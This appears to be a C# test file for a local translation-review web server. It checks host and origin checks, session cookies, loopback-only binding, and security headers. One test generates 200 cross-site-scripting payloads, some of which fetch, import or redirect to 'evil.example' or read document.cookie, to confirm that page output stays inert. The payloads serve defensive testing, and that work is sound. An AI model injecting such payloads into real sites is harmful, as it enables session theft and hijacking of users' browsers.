using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json.Nodes;
using AngleSharp.Html.Parser;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Microsoft.AspNetCore.Routing;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Time.Testing;
using Translator.Reviewing;
using Translator.Reviewing.Http;
using Translator.Tests.Support;
using Translator.Translating;

namespace Translator.Tests.Reviewing;

/// <summary>Nobody but the person at this machine gets in, and nothing that is shown can act.</summary>
public sealed class ReviewGuardTests : IDisposable
{
    private readonly WorkFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Fact]
    public async Task Every_address_refuses_a_foreign_host_a_foreign_origin_and_a_request_without_a_session()
    {
        await using var host = await ReviewHost.StartAsync(_folder);
        var addresses = Addresses(host);
        Assert.True(addresses.Count > 25, $"{addresses.Count} addresses");
        using var stranger = new HttpClient(new SocketsHttpHandler { UseCookies = false, AllowAutoRedirect = false }) { BaseAddress = host.Client.BaseAddress };
        foreach (var (method, path) in addresses)
        {
            await RefusedAsync(host.Client, method, path, r => r.Headers.Host = "evil.example", HttpStatusCode.Forbidden);
            await RefusedAsync(host.Client, method, path, r => r.Headers.Host = $"evil.example:{host.Client.BaseAddress!.Port}", HttpStatusCode.Forbidden);
            await RefusedAsync(host.Client, method, path, r => r.Headers.Add("Origin", "http://evil.example"), HttpStatusCode.Forbidden);
            await RefusedAsync(host.Client, method, path, r => r.Headers.Add("Origin", "null"), HttpStatusCode.Forbidden);
            await RefusedAsync(host.Client, method, path, r => r.Headers.Add("Sec-Fetch-Site", "cross-site"), HttpStatusCode.Forbidden);
            await RefusedAsync(stranger, method, path, _ => { }, HttpStatusCode.Unauthorized);
            await RefusedAsync(stranger, method, path, r => r.Headers.Add("Cookie", "translator=1795459636.JhoB8d6im3GfWa23.Cf40u3Qfy6faBXJJlXxhLPhICOdvAqs__XgGNaWi91o"), HttpStatusCode.Unauthorized);
            await RefusedAsync(stranger, method, path, r => r.RequestUri = new Uri(path + "?token=guess", UriKind.Relative), HttpStatusCode.Unauthorized);
            if (method == HttpMethod.Get)
                continue;
            await RefusedAsync(host.Client, method, path, r => r.Headers.Add("X-Translator", "2"), HttpStatusCode.Forbidden);
            await RefusedAsync(host.Client, method, path, r => r.Headers.Add("X-Reviewer", "%E2%80%AE"), HttpStatusCode.BadRequest);
        }
    }

    [Fact]
    public async Task Changes_without_the_page_s_own_header_or_without_a_name_are_refused()
    {
        await using var host = await ReviewHost.StartAsync(_folder);
        host.Client.DefaultRequestHeaders.Remove("X-Translator");
        Assert.Equal(HttpStatusCode.Forbidden, (await host.SendAsync(HttpMethod.Post, "/api/v1/ops/1/undo", null)).Status);
        host.Client.DefaultRequestHeaders.Add("X-Translator", "1");
        host.Client.DefaultRequestHeaders.Remove("X-Reviewer");
        Assert.Equal(HttpStatusCode.BadRequest, (await host.SendAsync(HttpMethod.Post, "/api/v1/ops/1/undo", null)).Status);
    }

    [Fact]
    public async Task Every_answer_carries_the_policy_also_one_that_refuses()
    {
        await using var host = await ReviewHost.StartAsync(_folder);
        foreach (var path in new[] { "/", "/nowhere", "/api/v1/docs", "/api/v1/docs/99", "/assets/read.css", "/assets/../x", "/api/v1/docs/1/segments?state=wrong" })
        {
            using var answer = await host.Client.GetAsync(new Uri(path, UriKind.Relative), TestContext.Current.CancellationToken);
            AssertSafe(answer);
        }
    }

    [Fact]
    public async Task It_is_served_on_this_machine_alone()
    {
        await using var host = await ReviewHost.StartAsync(_folder);
        var bound = host.Get<ReviewServer>().App.Services.GetRequiredService<IServer>().Features.Get<IServerAddressesFeature>()!.Addresses;
        Assert.All(bound, address => Assert.True(IPAddress.IsLoopback(IPAddress.Parse(new Uri(address).Host))));
    }

    [Theory]
    [InlineData("http://0.0.0.0:5080", "Reviewing:Certificate", "Reviewing:Key")]
    [InlineData("http://192.168.1.5:5080", "Reviewing:Certificate", "Reviewing:Key")]
    [InlineData("https://127.0.0.1:5080", "Reviewing:Certificate", "Reviewing:Certificate")]
    [InlineData("nonsense", "Reviewing:Url", "http://127.0.0.1:5080")]
    public void Another_address_without_TLS_and_a_key_is_refused_by_the_setting_s_name(string url, string first, string second)
    {
        var result = new ReviewingOptionsValidator().Validate(null, new ReviewingOptions { Url = url });
        Assert.Contains(first, result.FailureMessage, StringComparison.Ordinal);
        Assert.Contains(second, result.FailureMessage, StringComparison.Ordinal);
        Assert.True(new ReviewingOptionsValidator().Validate(null, new ReviewingOptions()).Succeeded);
        Assert.True(new ReviewingOptionsValidator().Validate(null, new ReviewingOptions { Url = "https://0.0.0.0:443", Certificate = "/x.pem", Key = "0123456789abcdef" }).Succeeded);
    }

    [Fact]
    public void A_cookie_outlives_a_restart_is_good_for_a_month_and_cannot_be_made_up()
    {
        var time = new FakeTimeProvider(new DateTimeOffset(2026, 3, 1, 0, 0, 0, TimeSpan.Zero));
        var cookie = new ReviewSessions(_folder.Ledger, "", time).NewCookie();
        var later = new ReviewSessions(_folder.Ledger, "", time);
        Assert.True(later.IsCookie(cookie));
        Assert.False(later.IsCookie(cookie[..^2] + "AA"));
        Assert.False(later.IsCookie("9" + cookie));
        Assert.False(later.IsCookie(""));
        Assert.False(new ReviewSessions(_folder.Ledger, "another access key", time).IsCookie(cookie));
        time.Advance(ReviewSessions.Lifetime + TimeSpan.FromSeconds(2));
        Assert.False(later.IsCookie(cookie));
        if (!OperatingSystem.IsWindows())
            Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(Path.Combine(_folder.Ledger, "review.key")));
    }

    [Fact]
    public async Task A_proxy_names_the_reviewer_only_where_a_setting_says_so()
    {
        await using (var without = await ReviewHost.StartAsync(_folder))
        {
            without.Client.DefaultRequestHeaders.Add("X-Forwarded-User", "Proxy");
            Assert.Null((await without.ReadAsync("/api/v1/session"))["name"]);
        }

        await using var host = await ReviewHost.StartAsync(_folder, null, null, "Reviewing:ReviewerHeader=X-Forwarded-User");
        host.Client.DefaultRequestHeaders.Add("X-Forwarded-User", "Proxy");
        Assert.Equal("Proxy", (string)(await host.ReadAsync("/api/v1/session"))["name"]!);
        var doc = await host.TranslateAsync("a.txt", Urdu.Article);
        var (_, edited) = await host.EditAsync(doc, (await host.PairsAsync(doc))[0], new JsonObject { ["en"] = "X." });
        Assert.Equal("Proxy", (string)edited!["pair"]!["reviewer"]!);
    }

    [Fact]
    public async Task Two_hundred_payloads_in_name_Urdu_English_note_and_comment_stay_text_on_the_page_without_script()
    {
        var payloads = Payloads().Take(200).ToList();
        Assert.Equal(200, payloads.Count);
        await using var host = await ReviewHost.StartAsync(_folder, new ScriptedEngine((texts, _) => Task.FromResult(new EngineAnswer([.. texts.Select(t => new EngineResult(t.Replace("یہ ایک جملہ ہے", "This is it", StringComparison.Ordinal)))], 0, "r"))));
        var doc = await host.TranslateAsync("<img src=x onerror=alert(1)>'\".txt", string.Concat(payloads.Select(p => $"یہ ایک جملہ ہے {p}\n\n")));
        foreach (var pair in (await host.PairsAsync(doc, "limit=1000")).Take(20))
            await host.EditAsync(doc, pair, new JsonObject { ["en"] = payloads[(int)pair["number"]!], ["note"] = payloads[(int)pair["number"]! + 1] });

        var pages = new List<string>();
        var pair0 = await host.PairsAsync(doc, "limit=1000");
        for (var page = 1; page <= (pair0.Count + 199) / 200; page++)
            pages.Add(await host.Client.GetStringAsync(new Uri(string.Create(CultureInfo.InvariantCulture, $"/review/{doc}?page={page}"), UriKind.Relative), TestContext.Current.CancellationToken));
        pages.Add(await host.Client.GetStringAsync(new Uri("/", UriKind.Relative), TestContext.Current.CancellationToken));

        string[] ours = ["HTML", "HEAD", "META", "TITLE", "LINK", "BODY", "HEADER", "H1", "BDI", "NAV", "A", "MAIN", "TABLE", "THEAD", "TR", "TH", "TBODY", "TD", "SPAN", "MARK", "P", "UL", "LI", "B"];
        foreach (var page in pages.SkipLast(1))
        {
            using var read = new HtmlParser().ParseDocument(page);
            Assert.Empty(read.All.Select(e => e.TagName).Except(ours));
            Assert.DoesNotContain(read.All.SelectMany(e => e.Attributes), a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase) || a.Value.Contains("javascript:", StringComparison.OrdinalIgnoreCase) || a.Name == "style");
        }

        var shown = string.Concat(pages.Select(p => new HtmlParser().ParseDocument(p).Body!.TextContent));
        Assert.All(await host.PairsAsync(doc, "limit=1000"), p =>
        {
            Assert.Contains((string)p["ur"]!, shown, StringComparison.Ordinal);
            Assert.Contains((string?)p["en"] ?? "", shown, StringComparison.Ordinal);
        });
        using var list = new HtmlParser(new HtmlParserOptions { IsScripting = false }).ParseDocument(pages[^1]);
        Assert.Empty(list.QuerySelectorAll("img"));
        // As JSON the texts come back exactly.
        Assert.Equal(payloads[1], (string)pair0[0]["en"]!);
    }

    [Fact]
    public async Task Characters_that_turn_text_around_are_visible_on_the_page_without_script()
    {
        await using var host = await ReviewHost.StartAsync(_folder);
        var doc = await host.TranslateAsync("a.txt", "یہ ایک \u202Eجملہ\u202C ہے۔\n");
        var page = await host.Client.GetStringAsync(new Uri($"/review/{doc}", UriKind.Relative), TestContext.Current.CancellationToken);
        Assert.Contains("data-c=\"RLO\"", page, StringComparison.Ordinal);
    }

    private static async Task RefusedAsync(HttpClient client, HttpMethod method, string path, Action<HttpRequestMessage> alter, HttpStatusCode expected)
    {
        using var request = new HttpRequestMessage(method, new Uri(path, UriKind.Relative));
        if (method != HttpMethod.Get)
            request.Content = new StringContent("{}", Encoding.UTF8, new MediaTypeHeaderValue("application/json"));
        alter(request);
        using var answer = await client.SendAsync(request, TestContext.Current.CancellationToken);
        Assert.True(answer.StatusCode == expected, $"{method} {path}: {answer.StatusCode}, not {expected}");
        AssertSafe(answer);
    }

    private static void AssertSafe(HttpResponseMessage answer)
    {
        Assert.Equal(ReviewGuard.Policy, Assert.Single(answer.Headers.GetValues("Content-Security-Policy")));
        Assert.Equal("nosniff", Assert.Single(answer.Headers.GetValues("X-Content-Type-Options")));
        Assert.Equal("DENY", Assert.Single(answer.Headers.GetValues("X-Frame-Options")));
    }

    /// <summary>All addresses as they are mapped, so that a new one cannot be forgotten.</summary>
    private static List<(HttpMethod Method, string Path)> Addresses(ReviewHost host) =>
        [.. ((IEndpointRouteBuilder)host.Get<ReviewServer>().App).DataSources.SelectMany(s => s.Endpoints).OfType<RouteEndpoint>()
            .SelectMany(e => (e.Metadata.GetMetadata<HttpMethodMetadata>()?.HttpMethods ?? ["GET", "POST"])
                .Where(m => m != "HEAD")
                .Select(m => (new HttpMethod(m), "/" + string.Join('/', e.RoutePattern.PathSegments.Select(s => string.Concat(s.Parts.Select(Part)))))))];

    private static string Part(Microsoft.AspNetCore.Routing.Patterns.RoutePatternPart part) =>
        part is Microsoft.AspNetCore.Routing.Patterns.RoutePatternLiteralPart literal ? literal.Content : "1";

    private static IEnumerable<string> Payloads()
    {
        string[] acts = ["alert(1)", "fetch('//evil.example')", "document.cookie", "print()", "top.location='//evil.example'", "eval('1')", "import('//evil.example')", "open('x')", "confirm``", "[].map.call"];
        Func<string, string>[] forms =
        [
            a => $"<script>{a}</script>", a => $"\"><script>{a}</script>", a => $"<img src=x onerror={a}>", a => $"'><img src=x onerror=\"{a}\">",
            a => $"<svg onload={a}>", a => $"<svg><script>{a}</script></svg>", a => $"</td></tr></table><script>{a}</script>", a => $"<a href=\"javascript:{a}\">x</a>",
            a => $"<iframe srcdoc=\"<script>{a}</script>\">", a => $"<body onload={a}>", a => $"<details open ontoggle={a}>", a => $"<input autofocus onfocus={a}>",
            a => $"<math><mtext><style><img src=x onerror={a}></style></mtext></math>", a => $"<!--><script>{a}</script>-->", a => $"<![CDATA[<script>{a}</script>]]>", a => $"&lt;script&gt;{a}&lt;/script&gt;",
            a => $"</title><script>{a}</script>", a => $"</noscript><script>{a}</script>", a => $"<base href=//evil.example/>{a}", a => $"<meta http-equiv=refresh content=0;url=javascript:{a}>",
        ];
        return acts.SelectMany(a => forms.Select(f => f(a)));
    }
}
